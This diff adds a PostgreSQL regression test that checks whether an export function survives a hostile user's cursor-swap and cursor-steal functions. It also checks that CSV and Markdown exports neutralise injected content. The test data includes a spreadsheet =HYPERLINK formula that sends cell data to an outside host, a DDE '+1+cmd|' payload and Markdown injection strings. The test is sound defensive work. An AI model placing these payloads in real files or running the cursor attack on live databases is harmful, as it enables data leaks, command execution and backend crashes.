@@ -1,0 +1,131 @@
+-- export_attacks: what a hostile user's own code, run in the same query as an
+-- export, can do to the export's cursor.  export_jsonl() and
+-- export_conversations() return one record per call and keep their cursor
+-- open between calls; a user function evaluated beside them (here in the
+-- select list) finds it in pg_cursors and tries to close it, to replace it
+-- by a cursor of the same name with other column types (1.1 then read
+-- integers as pointers and the backend died), to move it, or to fetch from
+-- it.  Each attempt fails with a clean error, and an export without the
+-- attack still returns every record.  Then files that attack their reader:
+-- spreadsheet formulas in CSV, structure in Markdown titles.
+
+\set alice '''aaaaaaaa-aaaa-aaaa-aaaa-aaaaaaaaaaaa'''
+
+-- Three approved conversations of alice's, 1,500 turns each: the cursor is
+-- fetched 2,000 rows at a time, so rows are left in it after the first
+-- record, and an attack after the first record is followed by another fetch.
+SET row_security = off;
+INSERT INTO train_data.conversations (id, conversation_id, title, persona, emotion, topic, tier, status, created_at,
+                                      updated_at, created_by)
+VALUES ('ea000000-0000-0000-0000-000000000001', 'tpl_a_000001', 'One', 'Ann', 'calm', 'saving', 'template', 'approved',
+        '2025-01-01 10:00:00+00', '2025-01-01 10:00:00+00', :alice),
+       ('ea000000-0000-0000-0000-000000000002', 'tpl_a_000002', 'Two', 'Ann', 'calm', 'saving', 'template', 'approved',
+        '2025-01-02 10:00:00+00', '2025-01-02 10:00:00+00', :alice),
+       ('ea000000-0000-0000-0000-000000000003', 'tpl_a_000003', 'Three', 'Ann', 'calm', 'saving', 'template', 'approved',
+        '2025-01-03 10:00:00+00', '2025-01-03 10:00:00+00', :alice);
+INSERT INTO train_data.conversation_turns (conversation_id, turn_number, role, content)
+SELECT c.id, n, CASE n WHEN 1 THEN 'user' ELSE 'assistant' END, 'turn ' || n
+FROM train_data.conversations c, generate_series(1, 1500) n;
+RESET row_security;
+
+-- alice's own schema, where she writes the attacking functions.
+CREATE SCHEMA regress_alice_code AUTHORIZATION regress_alice;
+SET ROLE regress_alice;
+SET train_data.user_id = :alice;
+
+-- Do something to every other open cursor of the session: 'swap' closes
+-- it and opens, under its name, a cursor of 22 bigint columns (the export's
+-- column count) whose values would be read as pointers; 'steal' fetches a
+-- row from it (moving it on).  Returns how many cursors it touched.
+CREATE FUNCTION regress_alice_code.on_cursors(action text) RETURNS integer LANGUAGE plpgsql AS $$
+DECLARE
+    names text[] := ARRAY(SELECT name FROM pg_catalog.pg_cursors);
+    n text;
+    c refcursor;
+    touched integer := 0;
+BEGIN
+    FOREACH n IN ARRAY names LOOP
+        c := n;
+        IF action OPERATOR(pg_catalog.=) 'steal' THEN
+            MOVE FORWARD 1 FROM c;
+        ELSE
+            CLOSE c;
+            OPEN c FOR SELECT 4242::bigint, 4242::bigint, 4242::bigint, 4242::bigint, 4242::bigint,
+                4242::bigint, 4242::bigint, 4242::bigint, 4242::bigint, 4242::bigint, 4242::bigint,
+                4242::bigint, 4242::bigint, 4242::bigint, 4242::bigint, 4242::bigint, 4242::bigint,
+                4242::bigint, 4242::bigint, 4242::bigint, 4242::bigint, 4242::bigint
+                FROM pg_catalog.generate_series(1, 5000);
+        END IF;
+        touched := touched + 1;
+    END LOOP;
+    RETURN touched;
+END
+$$;
+
+-- The same attacks wrapped so that each gives its error as a value.
+CREATE FUNCTION regress_alice_code.attack(stmt text) RETURNS text LANGUAGE plpgsql AS $$
+DECLARE
+    result text;
+BEGIN
+    EXECUTE stmt INTO result;
+    RETURN 'no error: ' || result;
+EXCEPTION WHEN OTHERS THEN
+    RETURN SQLSTATE || ': ' || pg_catalog.regexp_replace(SQLERRM, '<unnamed portal [0-9]+>', '<portal>');
+END
+$$;
+
+-- The cursor swapped after the first record: an error, not a crash.
+SELECT regress_alice_code.attack($$SELECT pg_catalog.string_agg(l || ' ' || s, ', ')
+    FROM (SELECT pg_catalog.left(train_data.export_jsonl(), 30) AS l, regress_alice_code.on_cursors('swap') AS s) x$$);
+SELECT regress_alice_code.attack($$SELECT pg_catalog.string_agg(l || ' ' || s, ', ')
+    FROM (SELECT pg_catalog.left(train_data.export_conversations('csv', 'all', '{}'), 30) AS l,
+                 regress_alice_code.on_cursors('swap') AS s) x$$);
+-- Rows taken from the cursor between two records: an error, not a silently
+-- shorter file.
+SELECT regress_alice_code.attack($$SELECT pg_catalog.string_agg(l || ' ' || s, ', ')
+    FROM (SELECT pg_catalog.left(train_data.export_jsonl(), 30) AS l, regress_alice_code.on_cursors('steal') AS s) x$$);
+-- Without an attack (the same kind of query, a harmless function beside the
+-- export): every record.
+SELECT pg_catalog.substring(train_data.export_jsonl(), 'tpl_a_[0-9]+') AS conversation,
+       pg_catalog.length(CURRENT_USER::text) AS beside;
+-- An export stopped early closes its cursor at once (not at the end of the
+-- transaction, which could not commit with the cursor still pinned), and
+-- the next one works.
+BEGIN;
+SELECT pg_catalog.substring(train_data.export_jsonl(), 'tpl_a_[0-9]+') AS conversation LIMIT 1;
+SELECT name FROM pg_catalog.pg_cursors;
+SELECT pg_catalog.count(*) AS records FROM train_data.export_jsonl();
+COMMIT;
+
+-- A file that attacks its reader: text that a spreadsheet would run as a
+-- formula (a CSV field starting with = + - @, a tab or a carriage return
+-- gets a single quote in front, inside its quotes), and a title that would
+-- add Markdown structure (escaped, one line).
+RESET ROLE;
+SET row_security = off;
+DELETE FROM train_data.conversations;
+INSERT INTO train_data.conversations (id, conversation_id, title, persona, emotion, topic, tier, status, created_at,
+                                      updated_at, created_by)
+VALUES ('ea000000-0000-0000-0000-000000000009', 'tpl_a_000009',
+        E'=HYPERLINK("http://x.example/?"&A1,"Click")\n# Injected heading\n- [link](http://x.example) *b* <i>', '@Ann',
+        '-calm', E'\tsaving', 'template', 'approved', '2025-01-09 10:00:00+00', '2025-01-09 10:00:00+00', :alice);
+INSERT INTO train_data.conversation_turns (conversation_id, turn_number, role, content)
+VALUES ('ea000000-0000-0000-0000-000000000009', 1, 'user', '+1+cmd|'' /C calc''!A0'),
+       ('ea000000-0000-0000-0000-000000000009', 2, 'assistant', E'\r=2+3, and a - b = c\r# Out of the quote?\r\nno');
+RESET row_security;
+SET ROLE regress_alice;
+-- (tabs and carriage returns shown as <TAB> and <CR>)
+SELECT pg_catalog.replace(pg_catalog.replace(r, E'\t', '<TAB>'), E'\r', '<CR>') AS csv
+FROM train_data.export_conversations('csv', 'all', '{"includeTimestamps": false}') r;
+-- and a carriage return in a turn ends a quoted line, as Markdown reads it
+SELECT pg_catalog.replace(pg_catalog.replace(r, E'\t', '<TAB>'), E'\r', '<CR>') AS markdown
+FROM train_data.export_conversations('markdown', 'all', '{"includeTimestamps": false}') WITH ORDINALITY x (r, n)
+WHERE n > 1;
+
+RESET ROLE;
+RESET train_data.user_id;
+DROP SCHEMA regress_alice_code CASCADE;
+SET row_security = off;
+DELETE FROM train_data.conversations;
+DELETE FROM train_data.export_logs;
+RESET row_security;
